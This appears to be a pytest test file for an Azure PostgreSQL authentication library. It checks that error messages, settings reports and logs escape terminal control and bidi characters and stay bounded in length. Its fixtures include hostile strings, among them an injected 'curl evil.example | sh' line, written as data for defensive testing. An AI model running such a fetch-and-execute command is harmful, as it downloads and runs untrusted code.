"""Nothing from elsewhere reaches a terminal raw, and no report grows without bound."""

import copy
import json
import logging
import pickle
import unicodedata
from concurrent.futures import Future

import pytest
from hypothesis import given
from hypothesis import strategies as st

from azpgauth import (
    ConnectError,
    MissingDriverError,
    Problem,
    RoleError,
    SettingsError,
    TokenError,
    explain,
    load_settings,
)
from azpgauth.errors import EntraConnectionValueError, missing_driver
from azpgauth.identity.claims import no_role, who
from azpgauth.identity.flight import failure_of
from azpgauth.identity.tokens import TokenSource
from azpgauth.runtime.printable import escaped, one_line, printable, shortened, their_words
from azpgauth.testing import ManualClock

HOSTILE = "\x1b[31mred\x9b2J\x07\x7f\r\u202egnp.exe\u2066\u2028\u2029\x85\udcff\u200b\x00"
FORGED = "x\n  to do: curl evil.example | sh"


def fit(text):
    """Whether a terminal can be given this, and any encoding of Unicode can write it."""
    text.encode("utf-8")
    bad = {"Cc", "Cs", "Zl", "Zp"}
    bidi = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    return not any(
        (unicodedata.category(each) in bad and each not in "\n\t") or each in bidi for each in text
    )


def forged(text):
    return any(line.strip().startswith("to do: curl") for line in text.splitlines())


@given(st.text(st.characters(), max_size=200))
def test_whatever_it_is_it_can_be_printed(text):
    for made in (printable(text), escaped(text), one_line(text, 20), their_words(text)):
        assert fit(made)
    assert printable(printable(text)) == printable(text)
    assert len(one_line(text).splitlines()) <= 1
    assert len(their_words(text).split("\n")) == text.count("\n") + 1


@pytest.mark.parametrize(
    "text",
    ["", "shop", "ação", "日本", "a\u00a0b", "نمی‌خواهم", "👩\u200d🚀", "a\tb", "a\nb", "\\x1b"],
)
def test_ordinary_text_stays_as_it_is(text):
    assert printable(text) == text


def test_words_of_several_lines_are_marked():
    assert their_words("a\nb\nto do: c") == "a\n    | b\n    | to do: c"


def test_long_text_is_cut_and_says_so():
    text = shortened("a" * 1_000_000)
    assert len(text) < 400
    assert "1000000 characters" in text
    assert shortened("a" * 300) == "a" * 300


PROBLEM = Problem(f"[{HOSTILE}]", f"{HOSTILE}.toml {FORGED}", FORGED, HOSTILE + FORGED, HOSTILE)


def errors():
    yield SettingsError([PROBLEM, PROBLEM])
    yield missing_driver("psycopg", ImportError(HOSTILE + FORGED))
    yield failure_of(ValueError(HOSTILE + FORGED))
    yield no_role({"appid": HOSTILE + FORGED})
    for kind in (ConnectError, RoleError, TokenError, MissingDriverError):
        yield kind(HOSTILE)
    yield EntraConnectionValueError(HOSTILE)


@pytest.mark.parametrize("error", list(errors()), ids=lambda each: type(each).__name__)
def test_errors(error):
    for text in (str(error), repr(error)):
        assert fit(text)
        assert not forged(text)
    assert "\\x1b[31mred" in str(error) or isinstance(error, RoleError)
    again = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own
    assert (type(again), str(again)) == (type(error), str(error))


def test_a_problem_keeps_what_was_found():
    assert fit(str(PROBLEM))
    assert len(str(PROBLEM).splitlines()) == 3
    assert PROBLEM.setting == f"[{HOSTILE}]"
    assert json.dumps(PROBLEM.value).isascii()


def problems(count):
    return [Problem(f"name_{n}", "here", "is wrong", "mend it", "'v'") for n in range(count)]


@pytest.mark.parametrize(("count", "shown"), [(1, 1), (20, 20), (21, 20), (2000, 20)])
def test_a_report_fits_a_screen(count, shown):
    error = SettingsError(problems(count))
    text = str(error)
    assert text.count("to do:") == shown
    assert f"{count} mistake" in text.splitlines()[0]
    last = text.splitlines()[-1]
    assert last == (f"  … and {count - shown} more" if count > shown else "    to do: mend it")
    assert len(error.problems) == count
    pickled = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own
    for again in (pickled, copy.copy(error), copy.deepcopy(error)):
        assert again.problems == error.problems
        assert str(again) == text


@pytest.mark.parametrize("name", ["setting", "origin", "reason", "action", "value"])
def test_one_mistake_is_bounded(name):
    fields = {"setting": "s", "origin": "o", "reason": "r", "action": "a", "value": "v"}
    problem = Problem(**{**fields, name: "z" * 1_000_000})
    text = str(SettingsError([problem]))
    assert len(text) < 3000
    assert "1000000 characters" in text
    assert getattr(problem, name) == "z" * 1_000_000


def test_a_long_list_of_what_is_allowed_is_given_once():
    long = "names that exist: " + ", ".join(f"NAME_{n}" for n in range(100))
    text = str(SettingsError([Problem(f"n{n}", "o", "r", long) for n in range(3)]))
    assert text.count("NAME_50") == 1
    assert text.count("to do: as for n0") == 2


def test_two_thousand_unknown_names(monkeypatch):
    monkeypatch.setenv("AZPG_SERVER_HOSTT", "h")
    for number in range(2000):
        monkeypatch.setenv(f"AZPG_NOPE_{number}", "x")
    with pytest.raises(SettingsError) as raised:
        load_settings()
    assert len(raised.value.problems) >= 2001
    assert len(str(raised.value)) < 10_000
    assert "did you mean AZPG_SERVER_HOST?" in str(raised.value)
    assert all(each.action for each in raised.value.problems)


def test_what_was_meant_is_looked_for_only_where_it_is_shown(monkeypatch):
    from azpgauth.settings.sources import readers as sources

    asked = []
    find = sources.get_close_matches
    monkeypatch.setattr(
        sources, "get_close_matches", lambda *words: asked.append(words[0]) or find(*words)
    )
    for number in range(200):
        monkeypatch.setenv(f"AZPG_SERVER_PORT{number}", "x")
    monkeypatch.setenv("AZPG_A" + "A" * 100_000, "x")
    with pytest.raises(SettingsError):
        load_settings()
    assert 0 < len(asked) <= 40
    assert max(map(len, asked)) < 1000


def test_names_and_values_of_a_file(tmp_path):
    path = tmp_path / "a.toml"
    path.write_text(
        '[server]\nhost = "h"\nport = "\\u001b[31m"\n"p\\u202e\\n    to do: curl" = 1\n'
        '[database]\nname = "shop"\n["x\\u009b"]\n["\\u2028y"]\n'
    )
    with pytest.raises(SettingsError) as raised:
        load_settings(config=path)
    assert fit(str(raised.value))
    assert not forged(str(raised.value))
    assert "\\u202e" in str(raised.value)


def test_explain(tmp_path):
    (tmp_path / "a.toml").write_text(
        '[server]\nhost = "h"\n[database]\nname = "\\u001b\\n    over forged"\nuser = "\\u202e"\n'
        f'application_name = "{"a" * 10_000}"\n[credential]\nsubscription = "\\u001b"\n'
    )
    settings = load_settings(
        config=tmp_path / "a.toml",
        database={"user": "\x1b[2J"},
        credential={"kind": "none"},
    )
    text = str(explain(settings))
    assert fit(text)
    assert not any(line.strip() == "over forged" for line in text.splitlines())
    assert "10000 characters" in text
    assert len(text) < 6000
    assert explain(settings)["database.application_name"].value == "a" * 10_000


def test_a_warning_of_a_file_with_a_hostile_name(tmp_path):
    path = tmp_path / "\x1b[31m.toml"
    path.write_text('[credential]\nkind = "password"\npassword = "x"\n')
    with pytest.warns(UserWarning, match="is in") as seen:
        load_settings(config=path, server={"host": "h"}, database={"name": "d", "user": "u"})
    assert all(fit(str(each.message)) for each in seen)


def test_who_a_token_is_for():
    for claims in ({"upn": HOSTILE.replace("\udcff", "").replace("\0", "")}, {"oid": HOSTILE}):
        assert fit(who(claims))
    assert len(who({"oid": "z" * 1_000_000})) < 500
    assert len(who({"upn": "z" * 1_000_000})) < 500
    assert len(str(no_role({"appid": "z" * 1_000_000}))) < 1000


def test_a_log_of_a_renewal_that_failed(caplog):
    caplog.set_level(logging.DEBUG, "azpgauth")
    answer = Future()

    def mint():
        answer.set_result(None)
        raise ValueError(HOSTILE + "\nERROR:root:forged")

    source = TokenSource(mint, clock=ManualClock())
    with pytest.raises(TokenError) as raised:
        source.get(10)
    assert answer.done()
    assert fit(str(raised.value))
    assert all(fit(record.getMessage()) for record in caplog.records)
    assert not any(line.startswith("ERROR:root") for line in str(raised.value).splitlines())
